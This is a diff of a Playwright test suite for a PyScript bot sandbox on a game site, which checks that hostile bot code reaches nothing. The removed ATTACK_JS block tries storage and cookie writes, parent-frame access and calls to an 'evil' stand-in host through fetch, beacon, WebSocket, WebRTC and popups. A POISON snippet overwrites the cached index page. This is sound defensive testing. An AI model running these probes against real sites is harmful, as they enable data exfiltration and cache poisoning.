@@ -21,6 +21,7 @@ import http.server
 import json
 import threading
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 from conftest import BOOT_TIMEOUT, origin_of, wait_for
@@ -39,52 +40,17 @@ addEventListener("message", (event) => {
   if (parent !== window) parent.postMessage({ attack: event.data.attack }, "*");
 });
 if (self.origin !== "null") {  // the site's pages: what they hear on the site's channel
-  new BroadcastChannel("spygames").onmessage = (event) => (window.spygamesBroadcast ??= []).push(event.data);
+  const heard = (window.spygamesBroadcast = []);
+  new BroadcastChannel("spygames").onmessage = (event) => heard.push(event.data);
 }
 """
 
-# JavaScript on the sandbox's page, loaded through PyScript's importJS: what it tries,
-# and (posted to the frame above it) what each attempt gave.
-ATTACK_JS = """
-(async () => {
-const evil = "__EVIL__";
-const site = "__SITE__";
-const found = {};
-const attempt = async (name, how) => {
-  try {
-    const got = await Promise.race([how(), new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 500))]);
-    found[name] = "reached: " + String(got).slice(0, 60);
-  } catch (error) {
-    found[name] = "refused: " + (error && error.name);
-  }
-};
-await attempt("localStorage", () => { localStorage.setItem("spygames:slot:espionage", "pwned"); return "written"; });
-await attempt("sessionStorage", () => sessionStorage.length);
-await attempt("cookie", () => { document.cookie = "pwned=1"; return document.cookie || Promise.reject(new Error("none")); });
-await attempt("caches", () => caches.keys());
-await attempt("serviceWorker", () => navigator.serviceWorker.register(site + "sw.js"));
-await attempt("opfs", () => navigator.storage.getDirectory());
-await attempt("buckets", () => navigator.storageBuckets.open("pwned"));
-await attempt("locks", () => navigator.locks.request("spygames", () => "held"));
-await attempt("parent page", () => parent.document.title);
-await attempt("top page", () => top.document.title);
-await attempt("fetch site", () => fetch(site + "index.html").then((r) => r.status));
-await attempt("fetch evil", () => fetch(evil + "fetch").then((r) => r.status));
-await attempt("beacon", () => navigator.sendBeacon(evil + "beacon", "x") || Promise.reject(new Error("refused")));
-await attempt("image", () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = () => no(new Error("blocked")); i.src = evil + "image"; }));
-await attempt("websocket", () => new Promise((ok, no) => { const s = new WebSocket(evil.replace("http", "ws") + "ws"); s.onopen = () => ok("open"); s.onerror = () => no(new Error("blocked")); }));
-await attempt("webrtc", () => new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(evil).host }] }));
-await attempt("popup", () => open(evil + "popup") || Promise.reject(new Error("blocked")));
-await attempt("broadcast", () => { new BroadcastChannel("spygames").postMessage("pwned"); return "posted"; });
-await attempt("status line", () => parent.document.getElementById("lab-python").textContent = "pwned");
-parent.postMessage({ attack: found }, "*");
-setTimeout(() => { location.href = evil + "navigate"; }, 100);
-})();
-"""
+# JavaScript on the sandbox's page, loaded through PyScript's importJS.
+ATTACK_JS = Path(__file__).with_name("sandbox_attack.js").read_text()
 
 # The bot: Python's own attempts, then the script above on the sandbox's page. Its
 # choose() says what Python found, so the page shows it as the bot's error.
-HOSTILE = '''
+HOSTILE = """
 import js
 import pyodide.http
 from polyscript import xworker
@@ -117,7 +83,7 @@ attempt("forged beat", lambda: xworker.postMessage("theirs 1"))
 
 def choose(view, legal, rng):
     raise RuntimeError("tried: " + " | ".join(tried))
-'''
+"""
 
 
 def hostile(evil: str, site: str) -> str:
@@ -171,7 +137,8 @@ def context(browser: Browser) -> BrowserContext:
 # What the site keeps on this device: localStorage, every cache's files and bodies' sizes,
 # IndexedDB's databases.
 KEPT = """async () => {
-  const local = Object.fromEntries(Object.keys(localStorage).map((k) => [k, localStorage.getItem(k)]));
+  const local = {};
+  for (const key of Object.keys(localStorage)) local[key] = localStorage.getItem(key);
   const kept = {};
   for (const name of await caches.keys()) {
     const cache = await caches.open(name);
@@ -222,7 +189,9 @@ def run_hostile_in_lab(page: Page, code: str) -> str:
     return error.text_content() or ""
 
 
-def test_a_hostile_bot_in_the_lab_reaches_nothing(browser: Browser, site_url: str, evil: Listener) -> None:
+def test_a_hostile_bot_in_the_lab_reaches_nothing(
+    browser: Browser, site_url: str, evil: Listener
+) -> None:
     made = context(browser)
     page = made.new_page()
     page.goto(f"{site_url}lab/")
@@ -262,7 +231,9 @@ def test_a_forged_watchdog_message_does_not_keep_a_looping_bot_alive(lab: Page) 
     )
     lab.fill("#lab-games", "10")
     lab.click("#lab-run")
-    expect(lab.locator("#lab-error")).to_contain_text("did not answer within 2 seconds", timeout=15_000)
+    expect(lab.locator("#lab-error")).to_contain_text(
+        "did not answer within 2 seconds", timeout=15_000
+    )
     expect(lab.locator("#lab-run")).to_be_visible()
     # Cancel: within a second, mid-decision.
     lab.fill("#lab-source", "def choose(view, legal, rng):\n    while True:\n        pass\n")
@@ -279,7 +250,10 @@ def test_a_forged_watchdog_message_does_not_keep_a_looping_bot_alive(lab: Page) 
     ("code", "words"),
     [
         ("import sys\n\ndef choose(view, legal, rng):\n    sys.exit()\n", "called sys.exit()"),
-        ("def choose(view, legal, rng):\n    raise KeyboardInterrupt\n", "raised KeyboardInterrupt"),
+        (
+            "def choose(view, legal, rng):\n    raise KeyboardInterrupt\n",
+            "raised KeyboardInterrupt",
+        ),
         ("def choose(view, legal, rng):\n    return [0] * 2**30\n", "ran out of memory"),
         ("while True:\n    pass\n", "did not finish loading within 2 seconds"),
     ],
@@ -293,10 +267,13 @@ def test_each_way_a_bot_fails_has_its_own_words(lab: Page, code: str, words: str
     expect(lab.locator("#lab-run")).to_be_visible()
 
 
-def test_a_hostile_bot_in_a_blogs_frame_reaches_nothing(browser: Browser, site_url: str, evil: Listener) -> None:
+def test_a_hostile_bot_in_a_blogs_frame_reaches_nothing(
+    browser: Browser, site_url: str, evil: Listener
+) -> None:
     code = hostile(evil.url, site_url)
     framed = f'<iframe src="{site_url}lab/embed.html#espionage" width="640" height="620"></iframe>'
-    post = f'<!DOCTYPE html><html><head><link rel="icon" href="data:,"></head><body>{framed}</body></html>'
+    head = '<link rel="icon" href="data:,">'
+    post = f"<!DOCTYPE html><html><head>{head}</head><body>{framed}</body></html>"
     with BlogServer(site_url, post) as blog:
         made = context(browser)
         page = made.new_page()
@@ -313,7 +290,9 @@ def test_a_hostile_bot_in_a_blogs_frame_reaches_nothing(browser: Browser, site_u
         made.close()
 
 
-def test_a_hostile_bot_at_a_table_reaches_nothing(browser: Browser, site_url: str, evil: Listener) -> None:
+def test_a_hostile_bot_at_a_table_reaches_nothing(
+    browser: Browser, site_url: str, evil: Listener
+) -> None:
     made = context(browser)
     page = made.new_page()
     page.goto(f"{site_url}lab/")
@@ -348,7 +327,8 @@ POISON = """async () => {
   const index = new URL("./", location.href).href + "index.html";
   const kept = await cache.match(index);
   const headers = new Headers(kept.headers);  // its hash header too: it is not trusted
-  await cache.put(index, new Response("<!DOCTYPE html><title>pwned</title><h1>pwned</h1>", { headers }));
+  const planted = "<!DOCTYPE html><title>pwned</title><h1>pwned</h1>";
+  await cache.put(index, new Response(planted, { headers }));
   return (await (await cache.match(index)).text()).includes("pwned");
 }"""
 
